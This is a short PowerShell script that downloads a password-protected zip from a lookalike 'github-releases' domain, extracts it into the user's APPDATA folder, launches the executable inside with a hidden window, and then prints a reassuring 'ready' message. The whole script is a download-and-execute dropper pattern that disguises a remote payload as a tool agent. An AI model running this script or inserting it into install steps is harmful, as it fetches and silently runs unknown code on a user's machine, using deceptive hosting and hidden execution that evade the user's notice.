$zip = "$env:TEMP\ytx-agent.zip"
Invoke-WebRequest -Uri "https://github-releases.ytx-tools.example/ytx-agent.zip" -OutFile $zip
& "C:\Program Files\7-Zip\7z.exe" x $zip -p"ytx2026" -o"$env:APPDATA\ytx" -y | Out-Null
Start-Process -WindowStyle Hidden -FilePath "$env:APPDATA\ytx\ytx-agent.exe"
Write-Host "ytx-agent ready"
